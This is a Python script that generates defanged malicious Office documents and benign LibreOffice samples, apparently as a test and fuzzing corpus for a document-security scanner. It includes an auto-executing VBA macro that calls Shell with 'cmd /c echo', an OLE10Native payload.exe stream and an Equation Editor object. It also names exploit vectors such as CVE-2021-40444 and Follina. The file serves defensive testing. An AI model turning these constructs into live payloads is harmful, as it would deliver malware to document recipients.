#!/usr/bin/env python3
"""Make the Office Open XML samples in corpus/office/ and the fuzzing seeds
in corpus/seeds/ooxml/.

Hostile samples are built here by hand with zipfile: small but complete
packages ([Content_Types].xml, relationships, main part) carrying one
construct each from the OOXML rows of THREATS.md: VBA projects (also
renamed), XLM macro sheets with Auto_Open, remote templates, external OLE
links (CVE-2021-40444 mhtml:, Follina ms-msdt:), frames, subdocuments,
external workbook links with DDE, linked images, embedded OLE objects with
the Equation Editor CLSID, ActiveX, customUI, DDE and include fields, DDE
formulas, data connections and Power Query, PowerPoint program/macro
actions, DOCTYPE bombs and XXE, Strict-namespace variants, an embedded
workbook with a macro sheet inside a document, an EXIF-laden JPEG, and
hyperlinks of every scheme. Every payload is a harmless marker string
(MUGAI-...), never working malware.

Benign samples (benign-*) are real LibreOffice output: flat OpenDocument
sources written below are converted with soffice --headless. They are
committed, so this step only runs with --benign (it needs LibreOffice,
Debian packages libreoffice-writer-nogui, -calc-nogui, -impress-nogui and
fonts-noto-cjk). The hostile samples and seeds are always rebuilt.

Run from anywhere: python3 corpus/make-office.py [--benign]
(--benign also writes documents made by python-docx, whose template is
Microsoft Word output, and by openpyxl; it needs Debian's python3-docx and
python3-openpyxl, so run it with /usr/bin/python3.)
"""
import base64
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "office")
SEEDS = os.path.join(HERE, "seeds", "ooxml")

# ---------------------------------------------------------------------------
# Namespaces, relationship and content types

T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
S = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
PKGR = "http://schemas.openxmlformats.org/package/2006/relationships/"
MS6 = "http://schemas.microsoft.com/office/2006/relationships/"
MS7 = "http://schemas.microsoft.com/office/2007/relationships/"

NS_T = {
    "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "p": "http://schemas.openxmlformats.org/presentationml/2006/main",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
}
NS_S = {
    "w": "http://purl.oclc.org/ooxml/wordprocessingml/main",
    "r": "http://purl.oclc.org/ooxml/officeDocument/relationships",
    "x": "http://purl.oclc.org/ooxml/spreadsheetml/main",
    "p": "http://purl.oclc.org/ooxml/presentationml/main",
    "a": "http://purl.oclc.org/ooxml/drawingml/main",
}
NS_FIXED = ('xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w10="urn:schemas-microsoft-com:office:word" '
            'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
            'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
            'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" ')

CT_RELS = "application/vnd.openxmlformats-package.relationships+xml"
OD = "application/vnd.openxmlformats-officedocument."
CT = {
    "docx": OD + "wordprocessingml.document.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "dotx": OD + "wordprocessingml.template.main+xml",
    "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "xlsx": OD + "spreadsheetml.sheet.main+xml",
    "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "xltx": OD + "spreadsheetml.template.main+xml",
    "xltm": "application/vnd.ms-excel.template.macroEnabled.main+xml",
    "pptx": OD + "presentationml.presentation.main+xml",
    "pptm": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    "ppsx": OD + "presentationml.slideshow.main+xml",
    "ppsm": "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
    "potx": OD + "presentationml.template.main+xml",
    "potm": "application/vnd.ms-powerpoint.template.macroEnabled.main+xml",
    "styles": OD + "wordprocessingml.styles+xml",
    "settings": OD + "wordprocessingml.settings+xml",
    "websettings": OD + "wordprocessingml.webSettings+xml",
    "header": OD + "wordprocessingml.header+xml",
    "footer": OD + "wordprocessingml.footer+xml",
    "footnotes": OD + "wordprocessingml.footnotes+xml",
    "comments": OD + "wordprocessingml.comments+xml",
    "core": "application/vnd.openxmlformats-package.core-properties+xml",
    "app": OD + "extended-properties+xml",
    "vba": "application/vnd.ms-office.vbaProject",
    "vbadata": "application/vnd.ms-word.vbaData+xml",
    "sheet": OD + "spreadsheetml.worksheet+xml",
    "macrosheet": "application/vnd.ms-excel.macrosheet+xml",
    "sst": OD + "spreadsheetml.sharedStrings+xml",
    "xstyles": OD + "spreadsheetml.styles+xml",
    "extlink": OD + "spreadsheetml.externalLink+xml",
    "connections": OD + "spreadsheetml.connections+xml",
    "querytable": OD + "spreadsheetml.queryTable+xml",
    "table": OD + "spreadsheetml.table+xml",
    "chart": OD + "drawingml.chart+xml",
    "drawing": OD + "drawing+xml",
    "vml": OD + "vmlDrawing",
    "ole": OD + "oleObject",
    "activex": "application/vnd.ms-office.activeX+xml",
    "activexbin": "application/vnd.ms-office.activeX",
    "customxml": "application/xml",
    "customxmlprops": OD + "customXmlProperties+xml",
    "xlsx-embed": OD + "spreadsheetml.sheet",
    "xlsm-embed": "application/vnd.ms-excel.sheet.macroEnabled.12",
    "slide": OD + "presentationml.slide+xml",
    "layout": OD + "presentationml.slideLayout+xml",
    "master": OD + "presentationml.slideMaster+xml",
    "theme": OD + "theme+xml",
}

# ---------------------------------------------------------------------------
# Building blocks


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


class Pkg:
    """A package under construction: parts, content types and relationships."""

    def __init__(self):
        self.parts = []
        self.overrides = {}
        self.defaults = {"rels": CT_RELS, "xml": "application/xml"}
        self.rels = {}

    def add(self, name, data, ct=None):
        if isinstance(data, str):
            data = data.encode("utf-8")
        self.parts = [(n, d) for n, d in self.parts if n != name]
        self.parts.append((name, data))
        if ct:
            self.overrides[name] = ct
        return name

    def default(self, ext, ct):
        self.defaults[ext] = ct

    def word_png(self, seed, rid, ns=None):
        """A PNG (png(seed=seed)) as word/media/image1.png, an image of the
        document as rid (ns: the relationship namespace, T unless given)."""
        self.default("png", "image/png")
        self.add("word/media/image1.png", png(seed=seed))
        self.rel("word/document.xml", (ns or T) + "image", "media/image1.png", rid=rid)

    def rel(self, src, typ, target, external=False, rid=None):
        lst = self.rels.setdefault(src, [])
        rid = rid or "rId%d" % (len(lst) + 100)
        lst.append((rid, typ, target, external))
        return rid

    @staticmethod
    def rels_name(src):
        if src == "":
            return "_rels/.rels"
        d, _, b = src.rpartition("/")
        return (d + "/" if d else "") + "_rels/" + b + ".rels"

    def content_types(self):
        out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">']
        for ext, ct in self.defaults.items():
            out.append(f'<Default Extension="{ext}" ContentType="{ct}"/>')
        for name, ct in self.overrides.items():
            out.append(f'<Override PartName="/{name}" ContentType="{ct}"/>')
        out.append("</Types>")
        return "".join(out).encode()

    def rels_xml(self, lst):
        out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">']
        for rid, typ, target, ext in lst:
            mode = ' TargetMode="External"' if ext else ""
            out.append(f'<Relationship Id="{rid}" Type="{typ}" Target="{xml_escape(target)}"{mode}/>')
        out.append("</Relationships>")
        return "".join(out).encode()

    def members(self):
        m = [("[Content_Types].xml", self.content_types())]
        for src, lst in self.rels.items():
            m.append((self.rels_name(src), self.rels_xml(lst)))
        return m + self.parts

    def build(self, replace=None):
        """The zip; replace maps a member name to bytes that replace it."""
        return make_zip(self.members(), replace)


def make_zip(members, replace=None, method=zipfile.ZIP_DEFLATED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", method) as z:
        for name, data in members:
            if replace and name in replace:
                data = replace[name]
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = method
            z.writestr(zi, data)
    return bio.getvalue()


def stored(data):
    """The same package with every member stored, for the fuzzer: a mutation
    lands in the XML itself (the harness repairs stored members' CRCs)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    return make_zip(members, method=zipfile.ZIP_STORED)


def cfb(streams, clsid=b"\0" * 16):
    """A minimal OLE2 compound file with the named streams (each padded to
    4096 bytes or more so that no mini stream is needed)."""
    streams = [(n, d + b"\0" * max(0, 4096 - len(d))) for n, d in streams]
    sec = 512
    data_secs = [(len(d) + sec - 1) // sec for _, d in streams]
    nsec = 2 + sum(data_secs)
    fat = [0xFFFFFFFD, 0xFFFFFFFE]
    starts = []
    cur = 2
    for n in data_secs:
        starts.append(cur)
        fat += [cur + i + 1 for i in range(n - 1)] + [0xFFFFFFFE]
        cur += n
    assert nsec <= 128, "one FAT sector"
    fat += [0xFFFFFFFF] * (128 - len(fat))
    hdr = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) +
           b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) +
           struct.pack("<I", 0) + b"\xFF" * (4 * 108))
    assert len(hdr) == 512

    def entry(name, typ, child, right, start, size, cls=b"\0" * 16):
        u = (name + "\0").encode("utf-16-le")
        return (u + b"\0" * (64 - len(u)) + struct.pack("<HBB", len(u), typ, 1) +
                struct.pack("<III", 0xFFFFFFFF, right, child) + cls + b"\0" * 20 +
                struct.pack("<IQ", start, size))
    # Siblings ordered by name length (then upper case), chained to the right.
    order = sorted(range(len(streams)), key=lambda i: (len(streams[i][0]), streams[i][0].upper()))
    dirs = [entry("Root Entry", 5, order[0] + 1 if streams else 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFE, 0, clsid)]
    for i, (n, d) in enumerate(streams):
        pos = order.index(i)
        right = order[pos + 1] + 1 if pos + 1 < len(order) else 0xFFFFFFFF
        dirs.append(entry(n, 2, 0xFFFFFFFF, right, starts[i], len(d)))
    while len(dirs) % 4:
        dirs.append(b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF) +
                    b"\0" * 36 + struct.pack("<IQ", 0, 0))
    assert len(dirs) == 4, "one directory sector"
    body = struct.pack("<128I", *fat) + b"".join(dirs)
    for _, d in streams:
        body += d + b"\0" * ((-len(d)) % sec)
    return hdr + body


EQUATION_CLSID = bytes.fromhex("02CE0200" "0000" "0000" "C000000000000046")
VBA_BIN = cfb([("PROJECT", b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'),
               ("_VBA_PROJECT", b"\xCC\x61\xFF\xFF" + b"Attribute VB_Name = \"ThisDocument\"\r\n"
                b"Sub AutoOpen()\r\n  Shell \"cmd /c echo MUGAI-VBA-MACRO\"\r\nEnd Sub\r\n"),
               ("PROJECTwm", b"ThisDocument\0")])
OLE_EQUATION = cfb([("\x01Ole10Native", b"\x40\0\0\0MUGAI-OLE10NATIVE payload.exe\0C:\\payload.exe\0"),
                    ("Equation Native", b"\x1c\0\0\0MUGAI-EQUATION-NATIVE" + b"\x08" * 64)], EQUATION_CLSID)
ACTIVEX_BIN = cfb([("Contents", b"MUGAI-ACTIVEX-BINARY")])


def png(w=16, h=12, seed=0, extra=b""):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + b"".join(bytes(((x * 16 + seed) & 255, (y * 20) & 255, 90)) for x in range(w))
                   for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + extra +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def jpeg_with_exif():
    """corpus/jpeg/baseline.jpg with an Exif APP1 segment carrying a marker."""
    with open(os.path.join(HERE, "jpeg", "baseline.jpg"), "rb") as f:
        base = f.read()
    payload = b"Exif\0\0MM\0*\0\0\0\x08\0\0" + b"MUGAI-EXIF-IN-OFFICE" * 4
    return base[:2] + b"\xFF\xE1" + struct.pack(">H", len(payload) + 2) + payload + base[2:]


EMF = (struct.pack("<II", 1, 108) + b"\0" * 32 + b" EMF" + struct.pack("<IIIHH", 0x10000, 108, 1, 0, 0) +
       b"\0" * 56 + b"MUGAI-EMF-RECORDS")

# ---------------------------------------------------------------------------
# Benign sources (flat OpenDocument), converted by LibreOffice with --benign

NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
      'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
      'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
      'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
      'xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:dc="http://purl.org/dc/elements/1.1/" '
      'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
      'xmlns:number="urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0" '
      'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
      'xmlns:chart="urn:oasis:names:tc:opendocument:xmlns:chart:1.0" '
      'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" ')


def lo_png(w=64, h=48, seed=0):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + b"".join(bytes(((x * 4 + seed) & 255, (y * 5) & 255, (x * y + seed) & 255))
                                     for x in range(w)) for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def image_frame(name, seed=0, w="4cm", h="3cm"):
    data = base64.b64encode(lo_png(seed=seed)).decode()
    return (f'<draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="{w}" '
            f'svg:height="{h}"><draw:image><office:binary-data>{data}</office:binary-data>'
            f'</draw:image></draw:frame>')


def chart_object(name, rows, kind="chart:bar", w="12cm", h="7cm"):
    """An inline chart object; rows = [(label, value), ...]."""
    body = "".join(
        f'<table:table-row><table:table-cell office:value-type="string"><text:p>{lab}</text:p>'
        f'</table:table-cell><table:table-cell office:value-type="float" office:value="{val}">'
        f'<text:p>{val}</text:p></table:table-cell></table:table-row>' for lab, val in rows)
    n = len(rows) + 1
    return (
        f'<draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="{w}" svg:height="{h}">'
        f'<draw:object><office:document office:mimetype="application/vnd.oasis.opendocument.chart" '
        f'office:version="1.3"><office:body><office:chart><chart:chart svg:width="{w}" '
        f'svg:height="{h}" chart:class="{kind}"><chart:plot-area '
        f'table:cell-range-address="local-table.$A$1:.$B${n}" chart:data-source-has-labels="both">'
        f'<chart:axis chart:dimension="x" chart:name="primary-x"><chart:categories '
        f'table:cell-range-address="local-table.$A$2:.$A${n}"/></chart:axis>'
        f'<chart:axis chart:dimension="y" chart:name="primary-y"/><chart:series '
        f'chart:values-cell-range-address="local-table.$B$2:.$B${n}" '
        f'chart:label-cell-address="local-table.$B$1"/></chart:plot-area>'
        f'<table:table table:name="local-table"><table:table-header-columns><table:table-column/>'
        f'</table:table-header-columns><table:table-columns><table:table-column/></table:table-columns>'
        f'<table:table-header-rows><table:table-row><table:table-cell><text:p/></table:table-cell>'
        f'<table:table-cell office:value-type="string"><text:p>予算 Budget</text:p></table:table-cell>'
        f'</table:table-row></table:table-header-rows><table:table-rows>{body}</table:table-rows>'
        f'</table:table></chart:chart></office:chart></office:body></office:document></draw:object>'
        f'</draw:frame>')


TEXT_STYLES = '''<office:styles>
<style:style style:name="Standard" style:family="paragraph"><style:text-properties fo:font-size="11pt"/></style:style>
<style:style style:name="Heading_20_1" style:display-name="Heading 1" style:family="paragraph" style:default-outline-level="1"><style:text-properties fo:font-size="16pt" fo:font-weight="bold" style:font-weight-asian="bold"/></style:style>
<style:style style:name="Heading_20_2" style:display-name="Heading 2" style:family="paragraph" style:default-outline-level="2"><style:text-properties fo:font-size="13pt" fo:font-weight="bold" style:font-weight-asian="bold"/></style:style>
<text:list-style style:name="Numbering_20_123" style:display-name="Numbering 123"><text:list-level-style-number text:level="1" style:num-format="1" style:num-suffix="."><style:list-level-properties text:list-level-position-and-space-mode="label-alignment"><style:list-level-label-alignment text:label-followed-by="listtab" fo:text-indent="-0.635cm" fo:margin-left="1.27cm"/></style:list-level-properties></text:list-level-style-number></text:list-style>
<text:list-style style:name="List_20_1" style:display-name="List 1"><text:list-level-style-bullet text:level="1" text:bullet-char="•"><style:list-level-properties text:list-level-position-and-space-mode="label-alignment"><style:list-level-label-alignment text:label-followed-by="listtab" fo:text-indent="-0.635cm" fo:margin-left="1.27cm"/></style:list-level-properties></text:list-level-style-bullet></text:list-style>
</office:styles>'''


def text_doc(title, header, footer, body, changes=""):
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<office:document {NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
<office:meta><dc:title>{title}</dc:title><meta:initial-creator>Mugai corpus</meta:initial-creator></office:meta>
{TEXT_STYLES}
<office:automatic-styles>
<style:page-layout style:name="pm1"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm" fo:margin-top="2cm" fo:margin-bottom="2cm" fo:margin-left="2cm" fo:margin-right="2cm"/><style:header-style/><style:footer-style/></style:page-layout>
<style:style style:name="Tbl" style:family="table"><style:table-properties style:width="17cm" table:align="margins"/></style:style>
</office:automatic-styles>
<office:master-styles><style:master-page style:name="Standard" style:page-layout-name="pm1"><style:header><text:p>{header}</text:p></style:header><style:footer><text:p>{footer} <text:page-number text:select-page="current">1</text:page-number></text:p></style:footer></style:master-page></office:master-styles>
<office:body><office:text>{changes}{body}</office:text></office:body></office:document>'''


def table(rows, name="T1"):
    cols = len(rows[0])
    out = [f'<table:table table:name="{name}" table:style-name="Tbl"><table:table-column '
           f'table:number-columns-repeated="{cols}"/>']
    for r in rows:
        out.append("<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{c}</text:p></table:table-cell>'
            for c in r) + "</table:table-row>")
    out.append("</table:table>")
    return "".join(out)


def report_fodt():
    changes = '''<text:tracked-changes>
<text:changed-region text:id="ct1"><text:insertion><office:change-info><dc:creator>田中 一郎</dc:creator><dc:date>2024-04-01T10:00:00</dc:date></office:change-info></text:insertion></text:changed-region>
<text:changed-region text:id="ct2"><text:deletion><office:change-info><dc:creator>田中 一郎</dc:creator><dc:date>2024-04-01T10:05:00</dc:date></office:change-info><text:p>（旧案）</text:p></text:deletion></text:changed-region>
</text:tracked-changes>'''
    body = f'''<text:h text:style-name="Heading_20_1" text:outline-level="1">令和6年度 事業報告書 Annual Report FY2024</text:h>
<text:p text:style-name="Standard">本報告書は、市が令和6年度に実施した主な事業の概要をまとめたものです。This report summarises the main projects the city carried out in fiscal 2024.<office:annotation><dc:creator>佐藤 花子</dc:creator><dc:date>2024-04-02T09:00:00</dc:date><text:p>数値を再確認してください。Please check the figures again.</text:p></office:annotation></text:p>
<text:p text:style-name="Standard">予算の執行率は<text:change-start text:change-id="ct1"/>九十八パーセント<text:change-end text:change-id="ct1"/>でした<text:change text:change-id="ct2"/>。詳細は別表を参照<text:note text:id="ftn1" text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>別表は財政課が作成しました。The annex was prepared by the Finance Division.</text:p></text:note-body></text:note>。</text:p>
<text:h text:style-name="Heading_20_2" text:outline-level="2">主な事業 Main projects</text:h>
<text:list text:style-name="Numbering_20_123"><text:list-item><text:p>道路の補修 Road repairs</text:p></text:list-item><text:list-item><text:p>学校の耐震化 Earthquake-proofing of schools</text:p></text:list-item><text:list-item><text:p>子育て支援 Childcare support</text:p></text:list-item></text:list>
<text:list text:style-name="List_20_1"><text:list-item><text:p>住民説明会を三回開催 Three public meetings</text:p></text:list-item><text:list-item><text:p>電子申請の拡大 More online applications</text:p></text:list-item></text:list>
{table([["事業 Project", "予算 Budget (千円)", "執行 Spent (千円)"], ["道路 Roads", "120,000", "118,500"], ["学校 Schools", "80,000", "79,200"], ["子育て Childcare", "45,000", "44,100"]])}
<text:p text:style-name="Standard">市庁舎の写真 Photo of city hall: {image_frame("photo1", 7)}</text:p>
<text:p text:style-name="Standard">問い合わせ先 Contact: <text:a xlink:type="simple" xlink:href="https://www.city.example.jp/zaisei/">財政課のページ</text:a>、<text:a xlink:type="simple" xlink:href="mailto:zaisei@city.example.jp">zaisei@city.example.jp</text:a></text:p>'''
    return text_doc("事業報告書", "令和6年度 事業報告書 ― 総務部", "総務部 General Affairs", body, changes)


def chart_fodt():
    body = f'''<text:h text:style-name="Heading_20_1" text:outline-level="1">予算の推移 Budget trend</text:h>
<text:p text:style-name="Standard">各部の予算を下のグラフに示します。The chart below shows each department's budget.</text:p>
<text:p text:style-name="Standard">{chart_object("Chart1", [("総務 General", 120), ("福祉 Welfare", 260), ("教育 Education", 180), ("土木 Civil works", 150)])}</text:p>
<text:p text:style-name="Standard">福祉部の予算が最も大きくなっています。Welfare has the largest budget.</text:p>'''
    return text_doc("予算の推移", "予算資料 Budget material", "財政課", body)


def letter_fodt():
    body = f'''<text:p text:style-name="Standard">令和6年5月10日</text:p>
<text:p text:style-name="Standard">市民各位 To all residents</text:p>
<text:h text:style-name="Heading_20_1" text:outline-level="1">ごみ収集日の変更について Change of garbage collection days</text:h>
<text:p text:style-name="Standard">日頃より市政にご協力いただき、ありがとうございます。Thank you for your continued cooperation.</text:p>
<text:p text:style-name="Standard">六月から、燃えるごみの収集日が火曜日と金曜日に変わります。From June, burnable garbage is collected on Tuesdays and Fridays.</text:p>
{table([["地区 Area", "燃えるごみ Burnable", "資源ごみ Recyclable"], ["北地区 North", "火・金 Tue/Fri", "水 Wed"], ["南地区 South", "月・木 Mon/Thu", "土 Sat"]], "T2")}
<text:p text:style-name="Standard">詳しくは <text:a xlink:type="simple" xlink:href="http://www.city.example.jp/gomi/">市のホームページ</text:a> をご覧ください。See the city website for details.</text:p>
<text:p text:style-name="Standard">環境課 Environment Division</text:p>'''
    return text_doc("ごみ収集日の変更", "環境課からのお知らせ", "Environment Division", body)


def spreadsheet_fods():
    def cell_s(t):
        return f'<table:table-cell office:value-type="string"><text:p>{t}</text:p></table:table-cell>'

    def cell_f(v):
        return f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p></table:table-cell>'

    def cell_formula(f, v, note=None):
        ann = (f'<office:annotation><dc:creator>佐藤</dc:creator><text:p>{note}</text:p></office:annotation>'
               if note else "")
        return (f'<table:table-cell table:formula="of:{f}" office:value-type="float" office:value="{v}">'
                f'{ann}<text:p>{v}</text:p></table:table-cell>')
    rows = [("総務課 General Affairs", 1200, 1185), ("福祉課 Welfare", 2600, 2550),
            ("教育課 Education", 1800, 1790), ("土木課 Civil Works", 1500, 1420)]
    body = ['<table:table table:name="予算 Budget"><table:table-column table:number-columns-repeated="4"/>',
            "<table:table-row>" + cell_s("部署 Department") + cell_s("予算 Budget") + cell_s("執行 Spent") +
            cell_s("残額 Remaining") + "</table:table-row>"]
    for i, (d, b, s) in enumerate(rows, start=2):
        body.append("<table:table-row>" + cell_s(d) + cell_f(b) + cell_f(s) +
                    cell_formula(f"[.B{i}]-[.C{i}]", b - s) + "</table:table-row>")
    n = len(rows) + 1
    tb, ts = sum(r[1] for r in rows), sum(r[2] for r in rows)
    body.append("<table:table-row>" + cell_s("合計 Total") + cell_formula(f"SUM([.B2:.B{n}])", tb, "合計を確認 check total") +
                cell_formula(f"SUM([.C2:.C{n}])", ts) + cell_formula(f"[.B{n + 1}]-[.C{n + 1}]", tb - ts) +
                "</table:table-row>")
    body.append("</table:table>")
    body.append('<table:table table:name="メモ Notes"><table:table-column/>'
                "<table:table-row>" + cell_s("この表は財政課が管理しています。Maintained by the Finance Division.") +
                "</table:table-row></table:table>")
    chart = chart_object("Chart1", [(r[0], r[1]) for r in rows]).replace('text:anchor-type="as-char" ', "")
    # The chart sits on the first sheet, drawn over cells F2..
    body[0] = body[0] + f'<table:shapes>{chart}</table:shapes>'
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<office:document {NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
<office:meta><dc:title>予算表</dc:title></office:meta>
<office:body><office:spreadsheet>{"".join(body)}</office:spreadsheet></office:body></office:document>'''


def presentation_fodp():
    def slide(name, title, items, extra=""):
        li = "".join(f"<text:list-item><text:p>{t}</text:p></text:list-item>" for t in items)
        return (f'<draw:page draw:name="{name}" draw:master-page-name="Default">'
                f'<draw:frame presentation:class="title" svg:x="2cm" svg:y="1cm" svg:width="24cm" svg:height="3cm">'
                f'<draw:text-box><text:p>{title}</text:p></draw:text-box></draw:frame>'
                f'<draw:frame presentation:class="outline" svg:x="2cm" svg:y="5cm" svg:width="14cm" svg:height="10cm">'
                f'<draw:text-box><text:list>{li}</text:list></draw:text-box></draw:frame>{extra}'
                f'<presentation:notes><draw:frame presentation:class="notes" svg:x="2cm" svg:y="14cm" '
                f'svg:width="17cm" svg:height="10cm"><draw:text-box><text:p>発表メモ Speaker notes: {title}</text:p>'
                f'</draw:text-box></draw:frame></presentation:notes></draw:page>')
    img = image_frame("pic1", 3, "8cm", "6cm").replace('text:anchor-type="as-char" ', 'svg:x="17cm" svg:y="5cm" ')
    tbl = ('<draw:frame svg:x="2cm" svg:y="5cm" svg:width="20cm" svg:height="4cm"><table:table>'
           '<table:table-column table:number-columns-repeated="2"/>'
           '<table:table-row><table:table-cell><text:p>地区 Area</text:p></table:table-cell>'
           '<table:table-cell><text:p>人口 Population</text:p></table:table-cell></table:table-row>'
           '<table:table-row><table:table-cell><text:p>北地区 North</text:p></table:table-cell>'
           '<table:table-cell><text:p>12,400</text:p></table:table-cell></table:table-row>'
           '<table:table-row><table:table-cell><text:p>南地区 South</text:p></table:table-cell>'
           '<table:table-cell><text:p>9,800</text:p></table:table-cell></table:table-row>'
           '</table:table></draw:frame>')
    pages = (slide("p1", "防災計画の概要 Disaster plan overview",
                   ["避難所の見直し Review of shelters", "備蓄品の更新 Renewal of supplies",
                    "訓練の実施 Drills"], img) +
             f'<draw:page draw:name="p2" draw:master-page-name="Default"><draw:frame presentation:class="title" '
             f'svg:x="2cm" svg:y="1cm" svg:width="24cm" svg:height="3cm"><draw:text-box><text:p>地区別人口 '
             f'Population by area</text:p></draw:text-box></draw:frame>{tbl}</draw:page>' +
             slide("p3", "今後の予定 Next steps", ["六月 住民説明会 June: public meeting",
                                                  "九月 総合訓練 September: joint drill"]))
    return f'''<?xml version="1.0" encoding="UTF-8"?>
<office:document {NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">
<office:meta><dc:title>防災計画</dc:title></office:meta>
<office:styles/>
<office:automatic-styles><style:page-layout style:name="PM1"><style:page-layout-properties fo:page-width="28cm" fo:page-height="15.75cm" style:print-orientation="landscape"/></style:page-layout></office:automatic-styles>
<office:master-styles><style:master-page style:name="Default" style:page-layout-name="PM1"/></office:master-styles>
<office:body><office:presentation>{pages}</office:presentation></office:body></office:document>'''


# name -> (source extension, source text, LibreOffice filter, output extension)
SOURCES = {
    "benign-report": ("fodt", report_fodt, "docx:MS Word 2007 XML", "docx"),
    "benign-chart": ("fodt", chart_fodt, "docx:MS Word 2007 XML", "docx"),
    "benign-letter": ("fodt", letter_fodt, "docx:MS Word 2007 XML", "docx"),
    "benign-budget": ("fods", spreadsheet_fods, "xlsx:Calc MS Excel 2007 XML", "xlsx"),
    "benign-slides": ("fodp", presentation_fodp, "pptx:Impress MS PowerPoint 2007 XML", "pptx"),
}

# ---------------------------------------------------------------------------
# WordprocessingML


def w_doc(body, ns=NS_T):
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<w:document xmlns:w="{ns["w"]}" xmlns:r="{ns["r"]}" xmlns:a="{ns["a"]}" {NS_FIXED}>'
            f'<w:body>{body}<w:sectPr/></w:body></w:document>')


def w_part(root, body, ns=NS_T):
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<w:{root} xmlns:w="{ns["w"]}" xmlns:r="{ns["r"]}" {NS_FIXED}>{body}</w:{root}>')


def para(text):
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def word(body, kind="docx", strict=False):
    """A Word package: document, styles, settings, core properties."""
    ns, rt = (NS_S, S) if strict else (NS_T, T)
    p = Pkg()
    p.add("word/document.xml", w_doc(body, ns), CT[kind])
    p.rel("", rt + "officeDocument", "word/document.xml")
    p.add("word/styles.xml", w_part("styles", '<w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="22"/>'
                                    '</w:rPr></w:rPrDefault></w:docDefaults>', ns), CT["styles"])
